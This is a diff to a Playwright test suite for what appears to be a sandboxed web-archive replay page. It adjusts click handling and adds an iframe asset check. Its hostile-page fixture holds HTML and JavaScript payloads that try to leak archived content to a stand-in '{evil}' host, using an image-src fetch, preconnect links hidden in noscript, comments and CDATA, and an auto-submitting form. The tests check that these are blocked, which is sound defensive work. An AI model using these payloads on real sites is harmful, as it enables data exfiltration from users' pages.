@@ -114,7 +114,7 @@ fetch("{room}/").then((answer) => answer.text()).then((text) => new Image().src 
 <noscript><p title="</noscript><link rel=preconnect href={evil}>"></noscript>
 <!--><link rel=preconnect href="{evil}">--><![CDATA[><link rel=preconnect href="{evil}">]]>
 <form id="f" action="{evil}/form"><input name="a" autofocus onfocus="this.form.submit()"></form>
-<template shadowrootmode="open"><link rel=preconnect href="{evil}"></template>
+<div><template shadowrootmode="open"><link rel=preconnect href="{evil}"></template></div>
 </body></html>"""
 
 
@@ -162,7 +162,7 @@ def test_hostile_page_neither_acts_nor_leaves(shelf, room, page, ear, inside):
     assert "ran" not in page.title()
     assert frame.evaluate("window.origin") == "null"
     for name in ("link", "script"):
-        frame.evaluate(f"document.getElementById('{name}').click()")
+        frame.locator(f"#{name}").click(no_wait_after=True)
         page.wait_for_timeout(400)
         assert (page.url.startswith((room.room, room.replay)), ear.heard, seen) == (True, [], [])
         if name == "link":
@@ -207,7 +207,8 @@ PLAIN = """<title>still</title><link rel=stylesheet href={evil}/s.css><img src={
 def test_page_finds_its_pictures_styles_and_faces_in_the_archive(shelf, room, page):
     base = "https://news.example"
     dot = "<svg xmlns='http://www.w3.org/2000/svg' width='7' height='9'/>"
-    shelf.put(f"{base}/p", "<link rel=stylesheet href=/s.css><img id=i src=/i.svg><p id=p>نص</p>")
+    shelf.put(f"{base}/p", "<link rel=stylesheet href=/s.css><img id=i src=/i.svg><p id=p>نص</p><iframe src=/f></iframe>")
+    shelf.put(f"{base}/f", "<p id=framed>في إطار</p>")
     shelf.put(f"{base}/s.css", "@import 'more.css'; p { color: rgb(1, 2, 3) }", "Content-Type: text/css")
     shelf.put(
         f"{base}/more.css",
@@ -226,6 +227,7 @@ def test_page_finds_its_pictures_styles_and_faces_in_the_archive(shelf, room, pa
     assert styled == ["rgb(1, 2, 3)", "77px"]
     assert frame.evaluate("document.getElementById('i').naturalWidth") == 7
     assert frame.evaluate("document.fonts.check('16px f', 'نص')")
+    assert frame.frame_locator("iframe").locator("#framed").inner_text() == "في إطار"
     assert failed == []
 
 
